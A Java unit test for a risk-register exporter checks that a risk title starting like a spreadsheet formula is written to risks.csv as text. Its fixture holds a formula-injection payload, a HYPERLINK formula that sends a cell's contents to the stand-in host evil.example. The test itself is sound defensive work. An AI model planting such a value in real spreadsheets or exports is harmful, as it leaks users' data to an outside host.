package io.github.isms.risk;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.isms.diag.Diagnostics;
import io.github.isms.source.ProjectLoader;
import io.github.isms.source.SourceLayout;
import io.github.isms.testing.TestIsms;
import java.io.StringWriter;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** risks.csv, like register.csv and soa.csv, keeps a cell that starts like a formula as text. */
class RiskCsvTest {

    @TempDir
    Path dir;

    @Test
    void aRiskTitleThatStartsLikeAFormulaIsNotAFormulaInRisksCsv() throws Exception {
        TestIsms isms = TestIsms.in(dir).file("src/isms/risks.yaml", """
                risks:
                  - id: R-001
                    title: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Details\\")"
                    owner: CISO
                    likelihood: 2
                    impact: 2
                """);
        Diagnostics diagnostics = new Diagnostics();
        RiskRegister register = RiskReader.read(new ProjectLoader(SourceLayout.defaults(isms.root())).load(diagnostics), diagnostics);
        StringWriter out = new StringWriter();
        RiskCsv.write(register, out);

        assertThat(out.toString()).doesNotContain(",\"=HYPERLINK").doesNotContain(",=HYPERLINK");
    }
}
